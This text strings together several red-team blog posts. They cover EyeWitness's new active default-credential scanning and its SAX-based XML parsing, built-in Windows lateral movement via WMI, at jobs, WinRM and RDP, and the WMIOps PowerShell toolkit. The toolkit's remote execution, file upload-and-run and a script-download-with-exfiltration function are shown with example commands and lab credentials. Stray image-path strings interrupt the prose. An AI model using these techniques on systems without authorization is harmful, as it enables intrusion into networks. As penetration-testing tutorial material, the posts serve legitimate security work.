EyeWitness and Active Scanning

You can clone/download EyeWitness to test active scans here: https://github.com/ChrisTruncer/EyeWitness

Since its release, EyeWitness has purely been a passive scanner. Its focus has been to take screenshots of web applications, and attempt to identify any default credentials that might be associated with that web application. In my experience, itworks well to save me the time from having to look up account information. While there are other features, this has been EyeWitness’s primary MO.

For a while, it’s been requested that EyeWitness integrate active scanning features to actually test and see what user accounts are genuinely valid, but it’s just never been in EyeWitness’s functionality.. until now.

Evan Pena (@Evan_Pena2003) just submitted a pull request to EyeWitness which has just been merged into the master branch. While it is currently limited in scope, active user account scanning functionality has just been merged into EyeWitness!When you use the –active-scan command line flag, EyeWitness will attempt to find common locations of login forms, and if one is found, it will attempt to validate commonly used credentials and see if they work for the specific web application being tested. Additionally, we are now able to create more targeted “signatures” that can be used to specify paths for each unique web application and the credentials that should be tested against it.

Datafile Creds

For example, the –active-scan feature now can test tomcat manager web applications with various username and password combinations to see if any are valid. If a valid user/pass combo is found, EyeWitness will not only alert within the console, but the report itself has a new category called “Successful Logins” to highlight the applications where EyeWitness could successfully log into it.As of now, the “database” of web applications isn’t large. However, this is the same situation we were in when EyeWitness began passively scanning for default credentials. As the database is built out, I’ll have the ability to add more web applications in and identify more credentials for each web app.

I’m really happy to have had this feature added in from the community, and I look forward to adding to the web application database and identify more credentials with each scan.

EyeWitness XML Parsing Updated

Since the first release of EyeWitness, the tool has supported input formats of both text files, and XML output from Nessus and Nmap. There’s two main ways to parse XML, the Document Object Model (DOM) and Simple API for XML Parsing (SAX). The main difference is when using DOM to parse XML, the whole XML document is loaded into memory andanalyzed. SAX is essentially a stream based parser and loads small pieces of the XML in memory at a time. DOM is faster at parsing XML since the entire file is loaded into memory, but this comes as a memory cost. EyeWitness has always used DOM based parsing since it is faster and I had yet to encounter a failure in parsing due to this design decision.

However, I can no longer make that claim. Viss has become my edge case (and I’m now certain that others who perform the same work/scans are as well. Also, I make this claim that he is my edge case jokingly :)). A couple months ago Viss had contacted me to let me know EyeWitness was crashing after trying to parse an XML document. This XML file was the output from (I believe) scanning the whole internet. It was a funny conversation, but showed that I needed to change how EyeWitness parses XML in order to handle these larger scans (I’m talkingnearly a gig, I believe, for a single XML file).

EyeWitness has now been modified to use SAX-based XML parsing. The tradeoff is that there might be slightly longer XML parsing times, but this will ensure that EyeWitness is able to parse anything you can throw at it (until someone comes with my next edge case :)). The slightly longer parsing times for XML will likely not even be noticeable for nearly all users.

With this change, some small modifications to EyeWitness command line options have been added. Previously when you passed a file into EyeWitness, it would auto-detect if it is an XML file or text file, and parse accordingly. I’ve now separated the commands out, and you will either specify a file (with the -f flag) or an xml file (with the -x flag). This is now present within the help menu:


This change has now been pushed into the master EyeWitness branch. If you have any questions, don’t hesitate to reach out and ask (@ChrisTruncer).


Built-In Lateral Movement Tools

I’m writing this post to hopefully help serve as a reference that documents multiple ways you can move laterally within a network.  There’s a bunch of different tools that are built right into Windows which help facilitate lateral movement, how kind of Microsoft :).  For now, lets start looking over our options.

WMI – Windows Management Instrumentation

WMI has become more and more prevalent to red teamers and hackers after Matt Graeber really helped bring out its usefulness at Blackhat.  WMI allows you to do so many different things that it would take multiple blog posts to document, however I’ll try to go over the useful things right now.  One thing to note: WMI for nearly all cases requires local administrative access on a system, so you will need to be running in the context of a userthat has local admin access (or provide the credentials) on the system you are targeting.

One of the classes that’s immediately useful is the Win32_Process class.  This allows us to create and run a process on a machine, local or remote.  I wrote a PowerShell tool called WMIOps which easily allows you to use WMI to create a process on a remote system, such as powershell, or running any other command.  Forexample, lets say there was a system called “win7pdws2-pc” on the domain “sonofflynnlab” with a local admin username “test2” and password “P@ssword123”.  If you wanted to start “notepad.exe” on the remote system, you could use WMIOps and run:

Invoke-ExecCommandWMI -User sonofflynnlab\test2 -Pass P@ssword123 -Command notepad.exe -Targets win7pdws2-pc

Start processes on a remote system using WMI

This command will start notepad.exe on the testwinpc, and you have remote code execution!   The ReturnValue of “0” lets us know that it executed successfully.  On our target system, we can see notepad.exe is running.


This is useful when you may not be able to access a system over SMB, but you can using WMI.  Also, WMI is generally a sneakier way (at the moment) of executing code on remote systems as you are not having to drop anything to disk.

At Jobs

At jobs are way to schedule and start a process on a remote system.  Similar to WMI, you will need local administrative rights on the system in order to schedule an at job.  To schedule an at job, at a minimum you will need to provide the path to the file you want to run and the time you want the process started.  So lets get the current time on the remote system, to do this, just run:

net time \\<computername>


Since the current time on the target system is 11:50 AM, lets schedule a job to run about 3 minutes in the future.  In this example, I want to start notepad.exe on the target system.  To schedule this job, I can just run the following:

at \\win7pdws2-pc 11:53 notepad.exe


I can see that my job is job number 2 for this system.  Now, when the system hits 11:53 AM, it willrun the notepad.exe process.  One key difference between using at jobs and WMI is WMI runs in the context of the account you provided.  At jobs run as system.


You can also use WMI to schedule jobs on a remote system.  WMIOps allows you to easily list, delete, and create jobs on a remote system.  So, lets say you wanted to use WMIOps to create a job at 12:18 to startnotepad.exe.  You would run the following command:

Invoke-SchedJobManipulation -User sonofflynnlab\test2 -Pass P@ssword123 -Targets win7pdws2-pc -Create notepad.exe -Time 12:18


Creating the job was successful, and we can see our job was assigned JobID 3.

Powershell Remoting

WinRM is a very nifty way to execute PowerShell code on a remote system.  As with the previous options, it will require that you have local administrative rights on the system you are targeting.

If WinRM is enabled on the system you are targeting, you can execute PowerShell commands on the target, giving you the flexibility of PowerShell.  The ports that you would probably see WinRM listening on is 5985 (http), or 5986 (https) (source).

To use WinRM to run a program/execute code on your target system, you could use the Invoke-Command cmdlet:

Invoke-Command -ComputerName win7pdws2-pc -ScriptBlock { hostname }

Invoke-Command -ComputerName win7pdws2-pc -ScriptBlock { ping }


Raphael Mudge has a great post on using WinRM.  Be sure to check it out!

Remote Desktop

I don’tthink I really need to go into any sort of description for this :).  Remote desktop is useful on servers where you can connect remotely without interrupting a users session.  RDPing into someone’s workstation can cause issues, and can be easily detected.  I wouldn’t recommend RDPing into a workstation unless it’s not being used at all.

Still want to try to RDP in?  WMIOps also has a function called Find-ActiveUsersWMI.  When you point this function at a workstation, it will attempt to see if LogonUI.exe or a *.scr (screensaver) process is running.  If either are running, it will let you know the user is likely not at their workstation.  If neither are, they probably are there!  To check, just use:

Find-ActiveUsersWMI -User sonofflynnlab\test2 -Pass P@ssword123 -Targets winypdws2-pc



I hope this helps to document a couple of tools built into Windows which helps to facilitate lateral movement within anetwork.  By no means is this an all-inclusive list, but a start.  If there’s something else you think is worth calling out in this post, please be sure to let me know!



WMIOps 1.1

After it’s initial release, I’ve had some feedback which has led to additional functionality within WMIOps, and I’ll be pushing it out in this WMIOps1.1 release.  This release is fairly minor with two functions being added in, and an enhancement to an existing one.

Github Repo: https://github.com/ChrisTruncer/WMIOps

Some of the changes include:

  • Invoke-FileTransferOverWMI – This now has an “Execute” switch that can be provided on the command line.  If used, once a file has been uploaded to your target machine, the function will use WMI to execute/run the uploaded file.  This is now a different way to get code execution on a remote system vs. Invoke-CreateShareandExecute.
  • Get-SystemDrivesWMI – This function will enumerate local and network drives on the targeted system and return information about them (path, size, etc.)
  • Get-ActiveNICsWMI – This function will enumerate all network cards that the target system is using (read has an IP address).  All active connections will be returned

Introducing WMIOps

Over the past year or two, I think everyone has seen an increasing use of WMI by attackers everywhere.  WMI is very interesting medium for carry out various actions across hosts on a network.  While for the most use cases you will need local administrative rights, once obtained you can easily query, search, and compromise remote machines all over WMI.  Matt Graeber spoke about using WMI for C2 at Blackhat andreally sparked my interest.  He then went on to release Invoke-WmiCommand which is a proof of concept script for executing powershell on a remote system and using WMI for its C2 channel.  After learning a  lot about how he implemented this, I decided to play around with WMI and see what actions I can do on remote systems over WMI and started working on WMIOps.

Github Repo: https://github.com/ChrisTruncer/WMIOps

Since that point about a month ago, I’ve got to a point where I am able to push out the initialversion of WMI-Ops, written in powershell, which performs various actions over WMI on targeted machines.  Some of these functions are essentially wrappers for built-in powershell cmdlets, but were written because I find it easier to interact with them in this manner.  The functions included within the initial release of WMI-Ops, and a brief description of what they do are:

  • Invoke-ExecCommandWMI – This function will run any command you give it on the targeted system.  This will not return output of the command to the console.
  • Invoke-KillProcessWMI– This function is used to kill a process on a remote system via process ID or process name on the targeted system.
  • Get-RunningProcessesWMI – This function will return all running processes on the targeted machine.
  • Get-ProcessOwnersWMI – This function will return every user account that has aprocess running on the targeted system.
  • Find-ActiveUsersWMI – This function will attempt to determine if a user is currently active at the targeted system.  This works by checking to see if LogonUi.exe or a screen saver is currently running on the remote system.  If either process is running, I amassuming the user is not currently at their desktop.
  • Invoke-CreateShareandExecute – This function creates a network share on the local host.  A user-specified file is then copied into the share and permissions are set for both the file and the share to be accessible by Everyone.  Next, the function uses WMI to call/run the user specified file on the target machine and runs the file via UNC path.  This needs to be run from an elevated command/powershell prompt.• Invoke-RemoteScriptWithOutput– This function uses WMI to spawn powershell on a remote machine to download a user-specified powershell script (downloaded using IEX cradle), run the script and post back the function’s/script’s output over HTTPS to a user controlled server.
  • Find-UserSpecifiedFileWMI – This function takes a filename or extension and searches for the location of the file(s) on the remote system.  The path, along with additional information, is returned for any file(s) found matching the search string.
  • Invoke-FileTransferOverWMI – This function uses WMI to upload or download a file from the local system to the target system.  For uploads, the function reads the local file, base64 encodes it, and stores it in the local registry.  It then uses WMI to spawn powershell on the targeted system which connects back to the local system, reads registry value, base64 decodes it, and thenwrites it to a user specified location on the target system’s disk.

